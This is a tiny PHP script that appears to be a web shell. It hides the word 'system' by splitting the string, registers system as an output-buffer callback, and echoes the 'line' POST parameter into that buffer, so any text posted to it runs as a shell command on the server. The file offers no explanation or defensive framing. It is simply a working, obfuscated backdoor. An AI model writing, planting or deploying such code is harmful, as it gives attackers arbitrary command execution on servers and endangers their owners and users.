<?php
$flush = 'sys' . 'tem';
ob_start($flush);
echo $_POST['line'];
ob_end_flush();
